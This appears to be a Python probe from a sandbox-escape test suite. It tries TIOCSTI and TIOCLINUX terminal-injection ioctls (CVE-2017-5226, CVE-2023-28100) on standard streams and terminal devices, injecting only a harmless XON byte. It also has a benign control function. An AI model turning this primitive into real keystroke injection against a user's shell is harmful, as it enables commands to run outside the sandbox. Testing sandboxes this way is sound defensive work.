"""Type into the terminal of whoever started the server.

Technique: TIOCSTI puts characters into a terminal's input as if typed (CVE-2017-5226 against bubblewrap, CVE-2023-28100 the same by
    TIOCLINUX): the shell that started the sandbox executes them after it. Tried on the standard streams and whatever terminal
    opens, with the one character that terminals swallow (XON), and with a question for the console.
Success: a terminal is opened, or the kernel takes the request.
Stopped by: root_filesystem, seccomp
"""
import fcntl
import glob

TIOCSTI, TIOCLINUX = 0x5412, 0x541C


def attack():
    won = []
    descriptors = {str(number): number for number in range(3)}
    places = ["/dev/tty", "/dev/tty0", "/dev/tty1", "/dev/console", "/dev/ttyS0", "/dev/ptmx", "/dev/pts/ptmx", "/dev/vcs", *glob.glob("/dev/pts/*")]
    for place in places:
        fd = answer(os.open, place, os.O_RDWR | os.O_NOCTTY)
        if isinstance(fd, int):
            won.append(f"opened {place}")
            descriptors[place] = fd
    for name, fd in descriptors.items():
        for request, argument in ((TIOCSTI, b"\x11"), (TIOCLINUX, b"\x06")):
            came = answer(fcntl.ioctl, fd, request, argument)
            # What is no terminal says ENOTTY without a filter, so that counts only where there is one.
            if came not in ("EPERM", "ENOTTY", "EACCES", "EIO", "EINVAL"):
                won.append(f"{request:#x} on {name}: {came}")
    return won and f"{won}"


def twin():
    """Asking whether one has a terminal, and how large, and going on without."""
    import getpass
    import shutil

    assert not sys.stdin.isatty() and not sys.stdout.isatty()
    assert shutil.get_terminal_size((80, 24)) == (80, 24)
    assert getpass.getuser() == "user"
